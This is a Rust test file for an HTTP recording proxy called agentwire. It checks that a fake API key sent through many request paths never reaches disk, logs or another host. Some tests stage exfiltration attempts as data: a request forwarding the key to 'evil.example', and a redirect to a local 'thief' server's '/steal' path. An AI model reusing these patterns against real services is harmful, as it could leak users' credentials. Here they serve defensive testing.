//! Secrets never reach disk or another host (issue 10, kinds 1–4): a unique fake key is
//! sent through every path that writes bytes, and every file agentwire wrote and everything
//! it printed is searched for it; `replay --to` follows no redirect.

use std::io::{Read, Write};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use agentwire::input::open_trace;

use crate::common::*;

/// A key no other test uses, so a hit can only come from these paths.
const KEY: &str = "sk-ant-api03-HARDENxUNIQUExKEYx7f3a9c2e1d0b";

fn head_with_key(line: &str) -> String {
    format!("{line}\r\nhost: x\r\nx-api-key: {KEY}\r\nauthorization: Bearer {KEY}\r\n")
}

/// Send the raw cases (unparsed, slow, cut off, oversized) to a plain listener.
fn raw_cases(addr: SocketAddr) {
    let w = Duration::from_secs(5);
    // unparsed: a bad request line
    raw_exchange(
        addr,
        format!("{}\r\n", head_with_key("GARBAGE")).as_bytes(),
        w,
    );
    // cut off: the head ends mid-way, the client closes its side
    {
        let mut s = std::net::TcpStream::connect(addr).unwrap();
        s.write_all(head_with_key("POST /v1/messages HTTP/1.1").as_bytes())
            .unwrap();
        s.shutdown(std::net::Shutdown::Write).unwrap();
        let mut b = Vec::new();
        s.set_read_timeout(Some(w)).unwrap();
        let _ = s.read_to_end(&mut b);
    }
    // slow: the rest of the head never comes (head timeout, 1 s in this test)
    raw_exchange(
        addr,
        head_with_key("POST /v1/messages?beta=true HTTP/1.1").as_bytes(),
        Duration::from_secs(4),
    );
    // oversized head
    let mut big = head_with_key("POST /v1/messages HTTP/1.1");
    big.push_str(&format!("x-pad: {}\r\n\r\n", "p".repeat(600 * 1024)));
    raw_exchange(addr, big.as_bytes(), w);
    // pipelined behind a request after which the connection closes
    let body = br#"{"model":"m","messages":[]}"#;
    let req = |extra: &str| {
        let mut r = format!(
            "POST /v1/messages?key={KEY} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nx-api-key: {KEY}\r\n{extra}content-length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        r.extend_from_slice(body);
        r
    };
    let mut two = req("connection: close\r\n");
    two.extend(req(""));
    raw_exchange(addr, &two, w);
}

async fn post_with_key(c: &reqwest::Client, url: &str, body: Vec<u8>) -> u16 {
    c.post(url)
        .header("content-type", "application/json")
        .header("x-api-key", KEY)
        .header("authorization", format!("Bearer {KEY}"))
        .header("cookie", format!("session={KEY}"))
        .body(body)
        .send()
        .await
        .map(|r| r.status().as_u16())
        .unwrap_or(0)
}

/// Inside an intercepted tunnel: one valid request and one malformed one, both with the key.
async fn tunnel_cases(proxy: SocketAddr, ca_pem: &[u8]) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    for payload in [
        format!(
            "POST /v1/messages?token={KEY} HTTP/1.1\r\nhost: api.anthropic.com\r\ncontent-type: application/json\r\nx-api-key: {KEY}\r\ncontent-length: 2\r\n\r\n{{}}"
        ),
        format!("{}\r\n", head_with_key("BROKEN")),
    ] {
        let mut tcp = tokio::net::TcpStream::connect(proxy).await.unwrap();
        tcp.write_all(b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nhost: api.anthropic.com:443\r\n\r\n")
            .await
            .unwrap();
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            head.push(tcp.read_u8().await.unwrap());
        }
        assert!(head.starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&head));
        let name = rustls::pki_types::ServerName::try_from("api.anthropic.com").unwrap();
        let mut tls = tokio_rustls::TlsConnector::from(tls_client_config(ca_pem))
            .connect(name, tcp)
            .await
            .unwrap();
        tls.write_all(payload.as_bytes()).await.unwrap();
        let mut out = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(3), tls.read_to_end(&mut out)).await;
    }
}

#[test]
fn a_unique_key_sent_through_every_path_reaches_no_file_and_no_output() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let data = d.join("data");
    let rt = tokio::runtime::Runtime::new().unwrap();
    let mut printed = String::new();

    // 1. The fake server: parsed, query strings, unparsed, slow, cut off, oversized head and
    //    body, pipelined requests that were never processed.
    let stub = ServeProcess::start(
        &[
            "-o",
            d.join("stub.jsonl").to_str().unwrap(),
            "--body-timeout",
            "1",
            "--max-body",
            "1000",
        ],
        &[],
    );
    let c = reqwest::Client::new();
    rt.block_on(async {
        let body = br#"{"model":"m","messages":[{"role":"user","content":"hi"}]}"#.to_vec();
        assert_eq!(
            post_with_key(&c, &format!("{}/v1/messages", stub.url), body.clone()).await,
            200
        );
        let q = format!(
            "{}/v1/messages?beta=true&key={KEY}&access_token={KEY}",
            stub.url
        );
        assert_eq!(post_with_key(&c, &q, body).await, 200);
        assert_eq!(
            post_with_key(&c, &format!("{}/v1/messages", stub.url), vec![b'x'; 5000]).await,
            413
        );
    });
    let addr = stub.addr();
    raw_cases(addr);

    // 2. The recording proxy, its upstream URL carrying the key as userinfo; one request
    //    forwarded, one refused (absolute form), one to an upstream that is down.
    let up_url = format!("http://user:{KEY}@{addr}");
    let proxy = ServeProcess::start(
        &[
            "-o",
            d.join("proxy.jsonl").to_str().unwrap(),
            "--upstream",
            &up_url,
        ],
        &[],
    );
    let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let dead_url = format!("http://user:{KEY}@{}", dead.local_addr().unwrap());
    drop(dead);
    let proxy_dead = ServeProcess::start(
        &[
            "-o",
            d.join("proxy-dead.jsonl").to_str().unwrap(),
            "--upstream",
            &dead_url,
        ],
        &[],
    );
    rt.block_on(async {
        let body = br#"{"model":"m","messages":[]}"#.to_vec();
        assert_eq!(
            post_with_key(&c, &format!("{}/v1/messages", proxy.url), body.clone()).await,
            200
        );
        assert_eq!(
            post_with_key(&c, &format!("{}/v1/messages", proxy_dead.url), body).await,
            502
        );
    });
    let refused = raw_exchange(
        proxy.addr(),
        format!("GET http://evil.example/?key={KEY} HTTP/1.1\r\nhost: evil.example\r\n\r\n")
            .as_bytes(),
        Duration::from_secs(5),
    );
    assert!(refused.starts_with(b"HTTP/1.1 403"));
    assert_eq!(
        count(&refused, KEY.as_bytes()),
        0,
        "the 403 echoes no secret"
    );

    // 3. Inside a TLS-intercepted tunnel.
    let icpt = ServeProcess::start(
        &[
            "-o",
            d.join("intercept.jsonl").to_str().unwrap(),
            "--intercept",
            "--body-timeout",
            "2",
        ],
        &[("AGENTWIRE_DATA_DIR", &data)],
    );
    let ca = std::fs::read(data.join("ca/ca.pem")).unwrap();
    rt.block_on(tunnel_cases(icpt.addr(), &ca));

    for p in [proxy, proxy_dead, icpt, stub] {
        printed.push_str(&p.stop().1);
    }

    // 4. `record`: the key as an argument (bare, after --api-key, as --token=), in
    //    secret-named environment variables and in a URL's userinfo.
    let o = std::process::Command::new(bin())
        .args(["record", "--route", "base-url", "-o"])
        .arg(d.join("record.jsonl"))
        .args([
            "--env",
            &format!("OPENAI_APIKEY={KEY}"),
            "--env",
            &format!("SERVICE_CREDS={KEY}"),
            "--env",
            &format!("UPSTREAM_URL=https://me:{KEY}@example.invalid/"),
            "--",
            "true",
            "--api-key",
            KEY,
            &format!("--token={KEY}"),
            KEY,
        ])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    printed.push_str(&String::from_utf8_lossy(&o.stdout));
    printed.push_str(&String::from_utf8_lossy(&o.stderr));

    // Every file agentwire wrote, and everything it printed: no key.
    let files = files_under(d);
    assert!(files.len() >= 6, "{files:?}");
    for f in &files {
        let bytes = std::fs::read(f).unwrap();
        assert_eq!(
            count(&bytes, KEY.as_bytes()),
            0,
            "the key leaked into {}",
            f.display()
        );
    }
    assert_eq!(
        count(printed.as_bytes(), KEY.as_bytes()),
        0,
        "the key was printed:\n{printed}"
    );

    // The paths were really taken: each kind is in the traces, as a marker.
    let kinds = |name: &str| -> Vec<String> {
        open_trace(&d.join(name))
            .unwrap()
            .exchanges
            .iter()
            .filter_map(|x| x.error.as_ref().map(|e| e.kind.clone()))
            .collect()
    };
    let stub_kinds = kinds("stub.jsonl");
    for k in [
        "malformed_http",
        "incomplete_head",
        "head_timeout",
        "head_too_large",
        "body_too_large",
        "unprocessed",
    ] {
        assert!(
            stub_kinds.iter().any(|s| s == k),
            "{k} missing in {stub_kinds:?}"
        );
    }
    let t = open_trace(&d.join("stub.jsonl")).unwrap();
    let q = t
        .exchanges
        .iter()
        .find(|x| x.request.target.contains("access_token"))
        .unwrap();
    assert!(
        q.request.target.contains("key=[redacted sk-ant-api03 fp="),
        "{}",
        q.request.target
    );
    assert!(kinds("proxy.jsonl").iter().any(|k| k == "refused_upstream"));
    assert!(kinds("proxy-dead.jsonl")
        .iter()
        .any(|k| k == "upstream_error"));
    let p = open_trace(&d.join("proxy.jsonl")).unwrap();
    assert!(p.exchanges[0]
        .source
        .upstream
        .as_deref()
        .unwrap()
        .contains("@"));
    assert!(p.exchanges[0]
        .source
        .upstream
        .as_deref()
        .unwrap()
        .contains("[redacted"));
    let i = open_trace(&d.join("intercept.jsonl")).unwrap();
    assert!(i
        .exchanges
        .iter()
        .any(|x| x.is_messages() && x.source.server.as_deref() == Some("api.anthropic.com:443")));
    assert!(i.exchanges.iter().any(
        |x| x.request.method == "BROKEN" && x.error.as_ref().unwrap().kind == "malformed_http"
    ));
    let r = open_trace(&d.join("record.jsonl")).unwrap();
    assert_eq!(r.context.command[2], marker(KEY), "{:?}", r.context.command);
    assert!(r.context.env["SERVICE_CREDS"].starts_with("[redacted"));
}

use agentwire::trace::redact::marker;

/// A minimal HTTP server on a std thread: answers every request with `reply`, counts
/// connections.
fn tiny_server(reply: String) -> (SocketAddr, Arc<std::sync::atomic::AtomicUsize>) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap();
    let n = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let seen = n.clone();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let reply = reply.clone();
            std::thread::spawn(move || {
                let mut buf = vec![0u8; 1 << 16];
                let mut got = Vec::new();
                s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
                while let Ok(k) = s.read(&mut buf) {
                    if k == 0 {
                        break;
                    }
                    got.extend_from_slice(&buf[..k]);
                    if let Some(h) = got.windows(4).position(|w| w == b"\r\n\r\n") {
                        let head = String::from_utf8_lossy(&got[..h]).to_ascii_lowercase();
                        let cl: usize = head
                            .lines()
                            .find_map(|l| l.strip_prefix("content-length:"))
                            .map_or(0, |v| v.trim().parse().unwrap_or(0));
                        if got.len() >= h + 4 + cl {
                            let _ = s.write_all(reply.as_bytes());
                            got.drain(..h + 4 + cl);
                        }
                    }
                }
            });
        }
    });
    (addr, n)
}

/// `replay --to` followed redirects to other hosts and ports with the user's key (and, on
/// 307/308, the prompt). Now the 3xx is reported and the other port receives nothing.
#[test]
fn replay_follows_no_redirect() {
    for status in ["302 Found", "307 Temporary Redirect"] {
        let (thief, stolen) = tiny_server("HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n".into());
        let (gw, _) = tiny_server(format!(
            "HTTP/1.1 {status}\r\nlocation: http://{thief}/steal\r\ncontent-length: 0\r\n\r\n"
        ));
        let o = std::process::Command::new(bin())
            .args(["replay"])
            .arg(repo().join("captures/sample-session.jsonl"))
            .args([
                "--to",
                &format!("http://{gw}"),
                "--format",
                "json",
                "--header",
            ])
            .arg(format!("x-api-key: {KEY}"))
            .output()
            .unwrap();
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        let code = &status[..3];
        assert_eq!(v["statuses"][code], v["requests"], "{v}");
        assert_eq!(
            stolen.load(std::sync::atomic::Ordering::SeqCst),
            0,
            "the redirect target received a connection"
        );
    }
}

/// A key pasted into a prompt stays in the body (bodies are byte-exact) unless the user
/// asks for `--redact-body`: then it is replaced, the body stays valid JSON, is marked
/// `"redacted": true`, and its digest describes the redacted bytes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redact_body_replaces_keys_inside_bodies_and_says_so() {
    let s = TestServer::start(agentwire::capture::server::ServerConfig {
        redact_body: true,
        ..Default::default()
    })
    .await;
    let body = format!(
        r#"{{"model":"m","messages":[{{"role":"user","content":"my key is {KEY}, use it"}}]}}"#
    );
    let r = reqwest::Client::new()
        .post(s.url("/v1/messages"))
        .header("content-type", "application/json")
        .body(body.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let t = s.finish().await;
    let b = &t.exchanges[0].request.body;
    assert!(b.redacted, "the trace says the body was redacted");
    assert!(b.verify(), "the stored digest describes the redacted bytes");
    let v: serde_json::Value = serde_json::from_slice(&b.bytes).unwrap();
    let text = v["messages"][0]["content"].as_str().unwrap();
    assert_eq!(text, format!("my key is {}, use it", marker(KEY)));
}

/// Reported by an adversarial tester, one kind: strings the server builds from the
/// request — the 404 message quoting the method and path, the recording proxy's
/// upstream-error message quoting reqwest's error (which names the upstream URL and the
/// request's query), the upstream URL's own query — and header values holding a URL with
/// a secret parameter were recorded raw: the reply bodies are written byte-exact, and a
/// URL's `http:` hid its query from the text rule. None of these secrets may reach a file.
#[test]
fn secrets_the_server_quotes_back_reach_no_file() {
    const UP: &str = "QSECRETxUPSTREAMx1";
    const PX: &str = "QSECRETxPROXIEDx22";
    const REF: &str = "QSECRETxREFERERx333";
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let stub = ServeProcess::start(&["-o", d.join("stub.jsonl").to_str().unwrap()], &[]);
    let w = Duration::from_secs(5);
    let in_path = raw_exchange(
        stub.addr(),
        format!("GET /v1/{KEY}/messages HTTP/1.1\r\nhost: x\r\nreferer: https://example.com/cb?access_token={REF}\r\nconnection: close\r\n\r\n").as_bytes(),
        w,
    );
    assert!(
        in_path.starts_with(b"HTTP/1.1 404"),
        "{}",
        String::from_utf8_lossy(&in_path)
    );
    let as_method = raw_exchange(
        stub.addr(),
        format!("{KEY} /v1/messages HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n").as_bytes(),
        w,
    );
    assert!(
        as_method.starts_with(b"HTTP/1.1 4"),
        "{}",
        String::from_utf8_lossy(&as_method)
    );
    let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    // A base URL carries no query (refused); its credentials go in the userinfo.
    let up = format!("http://agent:{UP}@{}/base", dead.local_addr().unwrap());
    drop(dead);
    let proxy = ServeProcess::start(
        &[
            "-o",
            d.join("proxy.jsonl").to_str().unwrap(),
            "--upstream",
            &up,
        ],
        &[],
    );
    let body = r#"{"model":"m","messages":[]}"#;
    let failed = raw_exchange(
        proxy.addr(),
        format!("POST /v1/messages?token={PX}&beta=true HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len()).as_bytes(),
        w,
    );
    assert!(
        failed.starts_with(b"HTTP/1.1 502"),
        "{}",
        String::from_utf8_lossy(&failed)
    );
    let mut printed = String::new();
    for p in [stub, proxy] {
        printed.push_str(&p.stop().1);
    }
    let files = files_under(d);
    assert_eq!(files.len(), 2, "{files:?}");
    for f in &files {
        let bytes = std::fs::read(f).unwrap();
        for secret in [KEY, UP, PX, REF] {
            assert_eq!(
                count(&bytes, secret.as_bytes()),
                0,
                "{secret} leaked into {}",
                f.display()
            );
        }
    }
    for secret in [KEY, UP, PX, REF] {
        assert_eq!(
            count(printed.as_bytes(), secret.as_bytes()),
            0,
            "{secret} printed: {printed}"
        );
    }
    // The paths were taken: the 404 and the upstream error are recorded, as markers.
    let t = open_trace(&d.join("stub.jsonl")).unwrap();
    let nf = t
        .exchanges
        .iter()
        .find(|x| x.response.as_ref().is_some_and(|r| r.status == 404))
        .unwrap();
    let reply = String::from_utf8_lossy(&nf.response.as_ref().unwrap().body.bytes).into_owned();
    assert!(reply.contains("[redacted sk-ant-api03 fp="), "{reply}");
    let p = open_trace(&d.join("proxy.jsonl")).unwrap();
    let e = p.exchanges[0].error.as_ref().unwrap();
    assert_eq!(e.kind, "upstream_error");
    assert!(e.message.contains("[redacted fp="), "{}", e.message);
}

/// Found by an adversarial test: clap's usage errors quote the bad value whole, so a URL's
/// credentials reached stderr. They pass the one redaction function like every other
/// error, and keep clap's exit code and wording.
#[test]
fn usage_errors_quote_bad_values_without_their_credentials() {
    for (args, secret) in [
        (
            &["serve", "--upstream", "notaurl user:UPSECRETPW@h"][..],
            "UPSECRETPW",
        ),
        (
            &["replay", "x.jsonl", "--to", "ftp://user:TOPSECRETPW@h/"][..],
            "TOPSECRETPW",
        ),
        (
            &["serve", "--upstream", "h?api_key=QSECRETVALUE"][..],
            "QSECRETVALUE",
        ),
    ] {
        let o = agentwire(args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(!err.contains(secret), "{err}");
        assert!(
            err.starts_with("error: invalid value '") && err.contains("[redacted fp="),
            "{err}"
        );
    }
}

/// Found by a second adversarial round: `show` printed a query key from a trace file the
/// writer had not redacted (written by hand), while export, diff and analyze hid it.
#[test]
fn show_prints_a_hand_written_traces_target_redacted() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hand.jsonl");
    let line = r#"{"type":"exchange","id":0,"started_at":"2026-11-29T12:00:00Z","source":{"kind":"server"},"request":{"method":"POST","target":"/v1/messages?api_key=HANDWRITTENSECRET1","version":"HTTP/1.1","headers":[],"body":{"size":2,"sha256":"44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a","json":{}}}}"#;
    std::fs::write(&path, format!("{line}\n")).unwrap();
    let p = path.to_str().unwrap();
    for args in [
        vec!["show", p],
        vec!["show", p, "--format", "json"],
        vec!["show", p, "--format", "md"],
    ] {
        let o = agentwire(&args);
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(out.contains("api_key=[redacted fp="), "{args:?}: {out}");
        assert!(!out.contains("HANDWRITTENSECRET1"), "{args:?}: {out}");
    }
}
